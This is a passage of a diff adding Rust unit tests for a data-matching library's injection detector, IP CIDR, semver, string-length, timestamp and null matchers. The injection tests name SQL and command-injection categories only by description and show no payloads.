+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &injection_json,
+                path: "union".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "union select should match".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &injection_json,
+                path: "tautology".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "quoted or 1=1 tautology should match".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &injection_json,
+                path: "comment".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "quote followed by a comment should match".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &injection_json,
+                path: "drop".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "stacked drop table should match".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &injection_json,
+                path: "delay".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "sleep() should match".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &injection_json,
+                path: "backtick".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "backticks with shell metacharacters should match".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &injection_json,
+                path: "subshell".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "$() subshell should match".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &injection_json,
+                path: "chained".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "command chained after ; should match".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &injection_json,
+                path: "benign_select".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "sentence with the words select and union should not match".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &injection_json,
+                path: "benign_words".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "sentence with drop and update should not match".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &injection_json,
+                path: "union".to_string(),
+                args: vec!["command".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "sql injection should not match the command category".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &injection_json,
+                path: "union".to_string(),
+                args: vec!["sql".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "sql injection should match the sql category".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &injection_json,
+                path: "chained".to_string(),
+                args: vec!["union_select".to_string(), "chained_command".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "signature names can be selected".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &injection_json,
+                path: "union".to_string(),
+                args: vec!["xss".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "unknown signature should error".to_string(),
+            should_error: true,
+        },
+    ];
+
+    test_utils::run_matcher_tests(crate::matcher_core::injection, &test_cases);
+}
+
+#[test]
+fn ip_cidr() {
+    let test_cases = vec![
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.ipv4_private".to_string(),
+                args: vec!["10.0.0.0/8".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "10.42.7.1 should be in 10.0.0.0/8".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.ipv4_private".to_string(),
+                args: vec!["192.168.0.0/16".to_string(), "172.16.0.0/12".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "10.42.7.1 should not be in other private ranges".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.ipv4_private".to_string(),
+                args: vec!["192.168.0.0/16".to_string(), "10.42.7.0/24".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "any matching network should match".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.ipv4_private".to_string(),
+                args: vec!["10.42.7.1/32".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "/32 should match the exact address".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.ipv4_private".to_string(),
+                args: vec!["0.0.0.0/0".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "/0 should match every ipv4 address".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.ipv6_address".to_string(),
+                args: vec!["2001:db8::/32".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "ipv6 address should be in its /32".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.ipv6_address".to_string(),
+                args: vec!["2001:db9::/32".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "ipv6 address should not be in another /32".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.ipv4_private".to_string(),
+                args: vec!["::/0".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "ipv4 address should not be in an ipv6 network".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.ipv6_address".to_string(),
+                args: vec!["0.0.0.0/0".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "ipv6 address should not be in an ipv4 network".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.field".to_string(),
+                args: vec!["10.0.0.0/8".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "non-ip field should not match".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.ipv4_private".to_string(),
+                args: vec!["10.0.0.0/33".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "prefix too long should error".to_string(),
+            should_error: true,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.ipv4_private".to_string(),
+                args: vec!["10.0.0.0".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "missing prefix should error".to_string(),
+            should_error: true,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.ipv4_private".to_string(),
+                args: vec!["10.0.0/8".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "bad address should error".to_string(),
+            should_error: true,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.ipv4_private".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "no args should error".to_string(),
+            should_error: true,
+        },
+    ];
+
+    test_utils::run_matcher_tests(crate::matcher_core::ip_cidr, &test_cases);
+}
+
+#[test]
+fn semver_compare() {
+    let test_cases = vec![
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.semver".to_string(),
+                args: vec![">=".to_string(), "1.2.0".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "1.2.3 >= 1.2.0".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.semver".to_string(),
+                args: vec!["<".to_string(), "1.10.0".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "components compare numerically, not as strings".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.semver".to_string(),
+                args: vec!["gt".to_string(), "1.5.0".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "1.2.3 is not > 1.5.0".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.semver".to_string(),
+                args: vec!["==".to_string(), "1.2.3".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "equal versions".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.semver_prerelease".to_string(),
+                args: vec!["<".to_string(), "1.5.0".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "prerelease sorts before its release".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.semver_prerelease".to_string(),
+                args: vec![">".to_string(), "1.5.0-beta.2".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "rc sorts after beta".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.semver_prerelease".to_string(),
+                args: vec!["==".to_string(), "1.5.0-rc.1".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "build metadata is ignored".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.ipv4_address".to_string(),
+                args: vec![">=".to_string(), "1.0.0".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "non-semver field should error".to_string(),
+            should_error: true,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.semver".to_string(),
+                args: vec![">=".to_string(), "1.5".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "non-semver arg should error".to_string(),
+            should_error: true,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.semver".to_string(),
+                args: vec!["~".to_string(), "1.5.0".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "unknown operator should error".to_string(),
+            should_error: true,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.semver".to_string(),
+                args: vec!["1.5.0".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "missing operator should error".to_string(),
+            should_error: true,
+        },
+    ];
+
+    test_utils::run_matcher_tests(crate::matcher_core::semver_compare, &test_cases);
+}
+
+#[test]
+fn string_length_compare() {
+    let data = r#"{
+        "ascii": "hello",
+        "accented": "héllo",
+        "cjk": "日本語",
+        "empty": ""
+    }"#
+    .as_bytes()
+    .to_vec();
+
+    let equal_cases = vec![
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "ascii".to_string(),
+                args: vec!["5".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "ascii length is 5".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "accented".to_string(),
+                args: vec!["5".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "accented chars count once each".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "cjk".to_string(),
+                args: vec!["3".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "3 cjk chars".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "empty".to_string(),
+                args: vec!["0".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "empty string is 0 long".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "ascii".to_string(),
+                args: vec!["five".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "non numeric length should error".to_string(),
+            should_error: true,
+        },
+    ];
+
+    let greater_than_cases = vec![
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "accented".to_string(),
+                args: vec!["5".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "5 is not greater than 5".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "accented".to_string(),
+                args: vec!["4".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "5 is greater than 4".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "ascii".to_string(),
+                args: vec!["-1".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "negative length should error".to_string(),
+            should_error: true,
+        },
+    ];
+
+    let less_than_cases = vec![
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "accented".to_string(),
+                args: vec!["6".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "5 is less than 6, even though it is 6 bytes".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "cjk".to_string(),
+                args: vec!["3".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "cjk chars count once each".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "ascii".to_string(),
+                args: vec!["2.5".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "fractional length should error".to_string(),
+            should_error: true,
+        },
+    ];
+
+    test_utils::run_matcher_tests(crate::matcher_core::string_length_equal, &equal_cases);
+    test_utils::run_matcher_tests(
+        crate::matcher_core::string_length_greater_than,
+        &greater_than_cases,
+    );
+    test_utils::run_matcher_tests(crate::matcher_core::string_length_less_than, &less_than_cases);
+}
+
+#[test]
+fn timestamp_compare() {
+    let data = r#"{
+        "utc": "2024-03-15T12:00:00Z",
+        "offset": "2024-03-15T07:00:00-05:00",
+        "text": "yesterday"
+    }"#
+    .as_bytes()
+    .to_vec();
+
+    let after_cases = vec![
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "utc".to_string(),
+                args: vec!["2024-01-01T00:00:00Z".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "later timestamp is after".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "utc".to_string(),
+                args: vec!["2024-03-15T12:00:00Z".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "same instant is not after".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "utc".to_string(),
+                args: vec!["2024-03-15T12:00:00+00:00".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "+00:00 is the same instant as Z".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "offset".to_string(),
+                args: vec!["2024-03-15T11:59:59Z".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "-05:00 is normalized to UTC before comparing".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "offset".to_string(),
+                args: vec!["2024-03-15T17:00:01Z".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "07:00-05:00 is 12:00Z, not after 17:00:01Z".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "utc".to_string(),
+                args: vec!["2024-01-01".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "arg without a time should error".to_string(),
+            should_error: true,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "text".to_string(),
+                args: vec!["2024-01-01T00:00:00Z".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "field that isn't a timestamp should error".to_string(),
+            should_error: true,
+        },
+    ];
+
+    let before_cases = vec![
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "utc".to_string(),
+                args: vec!["2025-01-01T00:00:00Z".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "earlier timestamp is before".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "utc".to_string(),
+                args: vec!["2024-03-15T12:00:00Z".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "same instant is not before".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "offset".to_string(),
+                args: vec!["2024-03-15T08:00:00-04:00".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "12:00Z is not before 08:00-04:00 (12:00Z)".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "offset".to_string(),
+                args: vec!["2024-03-15T08:00:01-04:00".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "offsets on both sides are normalized".to_string(),
+            should_error: false,
+        },
+    ];
+
+    let between_cases = vec![
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "utc".to_string(),
+                args: vec!["2024-03-15T12:00:00Z".to_string(), "2024-03-16T00:00:00Z".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "start is inclusive".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "utc".to_string(),
+                args: vec!["2024-03-15T00:00:00Z".to_string(), "2024-03-15T12:00:00Z".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "end is inclusive".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "offset".to_string(),
+                args: vec!["2024-03-15T07:00:00-05:00".to_string(), "2024-03-15T07:00:00-05:00".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "single instant range with offsets".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "utc".to_string(),
+                args: vec!["2024-03-15T12:00:01Z".to_string(), "2024-03-16T00:00:00Z".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "before start is outside".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "utc".to_string(),
+                args: vec!["2024-03-16T00:00:00Z".to_string(), "2024-03-15T00:00:00Z".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "start after end should error".to_string(),
+            should_error: true,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "utc".to_string(),
+                args: vec!["2024-03-15T00:00:00Z".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "a single arg should error".to_string(),
+            should_error: true,
+        },
+    ];
+
+    test_utils::run_matcher_tests(crate::matcher_core::timestamp_after, &after_cases);
+    test_utils::run_matcher_tests(crate::matcher_core::timestamp_before, &before_cases);
+    test_utils::run_matcher_tests(crate::matcher_core::timestamp_between, &between_cases);
+}
+
+#[test]
+fn timestamp_monotonic() {
+    let data = r#"{
+        "utc": "2024-03-15T12:00:00Z",
+        "offset": "2024-03-15T07:00:00-05:00",
+        "unix": 1710504000,
+        "text": "yesterday"
+    }"#
+    .as_bytes()
+    .to_vec();
+
+    let test_cases = vec![
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "utc".to_string(),
+                args: vec!["2024-03-15T11:59:59Z".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "later event is in order".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "utc".to_string(),
+                args: vec!["2024-03-15T12:00:00Z".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "equal timestamp is in order".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "utc".to_string(),
+                args: vec!["2024-03-15T12:00:01Z".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "earlier event is out of order".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "offset".to_string(),
+                args: vec!["2024-03-15T11:00:00Z".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "offsets are normalized before comparing".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "offset".to_string(),
+                args: vec!["2024-03-15T08:00:01-04:00".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "12:00Z is before 12:00:01Z after normalizing".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "unix".to_string(),
+                args: vec!["2024-03-15T11:59:59Z".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "unix field against an RFC3339 prior".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "utc".to_string(),
+                args: vec!["1710504001".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "RFC3339 field against a unix prior".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "utc".to_string(),
+                args: vec!["last tuesday".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "prior that isn't a timestamp should error".to_string(),
+            should_error: true,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "text".to_string(),
+                args: vec!["2024-03-15T12:00:00Z".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "field that isn't a timestamp should error".to_string(),
+            should_error: true,
+        },
+    ];
+
+    test_utils::run_matcher_tests(crate::matcher_core::timestamp_monotonic, &test_cases);
+}
+
+#[test]
+fn is_null() {
+    let test_cases = vec![
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.null_field".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "explicit null".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.empty_string".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "empty string is not null".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.empty_array".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "empty array is not null".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "number_zero".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "zero is not null".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "boolean_f".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "false is not null".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.field".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "string is not null".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.does_not_exist".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "missing path should error".to_string(),
+            should_error: true,
+        },
+    ];
+
+    test_utils::run_matcher_tests(crate::matcher_core::is_null, &test_cases);
+
+    // A missing path reaching the matcher directly is reported as such
+    let request = Request {
+        match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+        data: &test_utils::SAMPLE_JSON_BYTES,
+        path: "object.does_not_exist".to_string(),
+        args: vec![],
+        negate: false,
+    };
+    let result = crate::matcher_core::is_null(&request, gjson::Value::default());
+    assert!(matches!(result, Err(crate::error::CustomError::PathNotFound(_))));
+}
+
+#[test]
+fn license_plate() {
+    let data = r#"{
+        "uk_current": "AB51 ABC",
